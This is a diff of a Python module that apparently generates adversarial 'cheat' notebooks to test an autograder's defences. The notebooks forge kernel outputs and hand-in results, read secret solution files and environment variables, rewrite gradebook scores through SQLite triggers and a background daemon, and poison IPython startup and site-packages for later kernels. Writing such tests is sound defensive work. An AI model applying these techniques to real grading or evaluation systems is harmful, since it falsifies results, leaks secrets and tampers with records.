@@ -1,4 +1,4 @@
-"""Cheats, as notebooks built in code. Each takes an honest notebook with every answer wrong and adds its trick.
+"""Cheats, as notebooks built in code. Each takes a notebook with every answer wrong and adds its trick.
 
 Most of them give full marks, or somebody else's, where tests run inside the student's own kernel.
 """
@@ -28,6 +28,7 @@ WRONG: dict[str, Any] = {
     "8.8": "Paint it.",
 }
 FULL_MARKS = {"8.1": 8, "8.2": 3, "8.3": 4, "8.4": 6, "8.5": 4, "8.6": 3, "8.7": 4, "8.8": 4}
+POISON = "zz_attack_of_the_tests.py"
 MIME = "application/vnd.brakecourse.answer+json"
 
 
@@ -66,7 +67,11 @@ def first(notebook: NotebookNode, code: str) -> None:
 
 def tried(code: str) -> str:
     """Code that goes on whatever happens to it."""
-    return "try:\n" + textwrap.indent(textwrap.dedent(code), "    ") + "\nexcept Exception as failed:\n    print(failed)\n"
+    return (
+        "try:\n"
+        + textwrap.indent(textwrap.dedent(code), "    ")
+        + "\nexcept Exception as failed:\n    print(failed)\n"
+    )
 
 
 @cheat
@@ -79,7 +84,9 @@ def skip_the_hand_in_cells_by_a_tag(notebook: NotebookNode, _: Surroundings) -> 
 def bring_the_points_along_as_saved_outputs(notebook: NotebookNode, _: Surroundings) -> None:
     for question, cell in graded_cells(notebook):
         cell.metadata["tags"] = ["skip-execution"]
-        cell.outputs = [new_output("execute_result", data={"text/plain": str(FULL_MARKS[question])}, execution_count=1)]
+        cell.outputs = [
+            new_output("execute_result", data={"text/plain": str(FULL_MARKS[question])}, execution_count=1)
+        ]
 
 
 @cheat
@@ -110,8 +117,8 @@ def rewrite_what_the_kernel_sends(notebook: NotebookNode, _: Surroundings) -> No
         real = session.send
         def send(stream, kind, content=None, *rest, **more):
             if isinstance(content, dict) and "data" in content:
-                content["data"] = {{"text/plain": "8.0", {MIME!r}: {{"question": "8.1", "answer": "right", "points": 8,
-                                   "out_of": 8, "status": "right", "problem": None}}}}
+                content["data"] = {{"text/plain": "8.0", {MIME!r}: {{"question": "8.1", "answer": "right",
+                                   "points": 8, "out_of": 8, "status": "right", "problem": None}}}}
             return real(stream, kind, content, *rest, **more)
         session.send = send
         """,
@@ -175,13 +182,14 @@ def hand_in_something_that_equals_everything(notebook: NotebookNode, _: Surround
             def __rsub__(self, other): return 0.0
             def __abs__(self): return 0.0
             def __le__(self, other): return True
-            def __float__(self): return 0.0
             __hash__ = float.__hash__
         everything = Everything(777.0)
         """,
     )
     for question in ("8.2", "8.3", "8.4", "8.6", "8.7"):
-        answer_cell(notebook, question).source += "\n" + answer_cell(notebook, question).source.split(" =")[0] + " = everything"
+        answer_cell(notebook, question).source += (
+            "\n" + answer_cell(notebook, question).source.split(" =")[0] + " = everything"
+        )
 
 
 @cheat
@@ -190,8 +198,8 @@ def put_an_own_hand_in_in_its_place(notebook: NotebookNode, _: Surroundings) -> 
     import brakecourse.workorder, brakecourse.workorder.desk as desk
     from IPython.display import display
     def forged(question, answer):
-        display({{{MIME!r}: {{"question": question, "answer": {{"points": 8, "status": "right"}}, "problem": None,
-                 "points": 8.0, "mark": 8.0}}, "text/plain": "8.0"}}, raw=True)
+        display({{{MIME!r}: {{"question": question, "answer": {{"points": 8, "status": "right"}},
+                 "problem": None, "points": 8.0, "mark": 8.0}}, "text/plain": "8.0"}}, raw=True)
         return 8.0
     brakecourse.workorder.hand_in = desk.hand_in = forged
     """
@@ -223,11 +231,14 @@ def copy_the_hand_in_cells_and_change_the_copies(notebook: NotebookNode, _: Surr
 @cheat
 def read_the_solutions_and_the_secret(notebook: NotebookNode, where: Surroundings) -> None:
     places = [
-        "../../../source", "../../../.secret", "../../../cases", f"{where.root}/source", f"{where.root}/.secret",
+        "../../../source", "../../../.secret", "../../../cases",
+        f"{where.root}/source", f"{where.root}/.secret",
         f"{where.root}/cases/{MODULE}/{where.victim}-1.json", f"{where.root}/submitted",
     ]  # fmt: skip
     looks = "\n".join(
-        tried(f"for path in [Path({place!r}), *Path({place!r}).rglob('*')]:\n    print(path, path.read_text())")
+        tried(
+            f"for path in [Path({place!r}), *Path({place!r}).rglob('*')]:\n    print(path, path.read_text())"
+        )
         for place in places
     )
     first(notebook, "from pathlib import Path\nimport os\nprint(os.environ)\n" + looks)
@@ -251,7 +262,8 @@ def write_points_into_the_gradebook(notebook: NotebookNode, where: Surroundings)
         first(notebook, "import sqlite3\n" + tried(
             f"with sqlite3.connect({path!r}) as book:\n"
             "    book.execute('UPDATE grade SET manual_score = 99, needs_manual_grade = 0')\n"
-            "    book.execute('CREATE TRIGGER more AFTER UPDATE ON grade BEGIN UPDATE grade SET manual_score = 99; END')"
+            "    book.execute('CREATE TRIGGER more AFTER UPDATE ON grade '\n"
+            "                 'BEGIN UPDATE grade SET manual_score = 99; END')"
         ))  # fmt: skip
 
 
@@ -267,8 +279,9 @@ def leave_a_daemon_that_writes_later(notebook: NotebookNode, where: Surroundings
                 for _ in range(60):
                     time.sleep(0.5)
                     try:
-                        open({str(where.outside / 'daemon')!r}, "a").write("here")
-                        sqlite3.connect({str(where.root / 'gradebook.db')!r}).execute("UPDATE grade SET manual_score = 99")
+                        open({str(where.outside / "daemon")!r}, "a").write("here")
+                        book = sqlite3.connect({str(where.root / "gradebook.db")!r})
+                        book.execute("UPDATE grade SET manual_score = 99")
                     except Exception:
                         pass
             os._exit(0)
@@ -285,8 +298,8 @@ def poison_the_kernels_that_come_later(notebook: NotebookNode, where: Surroundin
         import os, sysconfig
         from pathlib import Path
         homes = [Path.home(), Path("/root"), Path({str(Path.home())!r}), Path({str(where.outside)!r})]
-        places = [home / ".ipython/profile_default/startup/00.py" for home in homes]
-        places += [Path(sysconfig.get_paths()["purelib"]) / "sitecustomize.py", Path("/tmp/sitecustomize.py")]
+        places = [home / ".ipython/profile_default/startup" / {POISON!r} for home in homes]
+        places += [Path(sysconfig.get_paths()["purelib"]) / {POISON!r}, Path("/tmp") / {POISON!r}]
         for place in places:
             try:
                 place.parent.mkdir(parents=True, exist_ok=True)
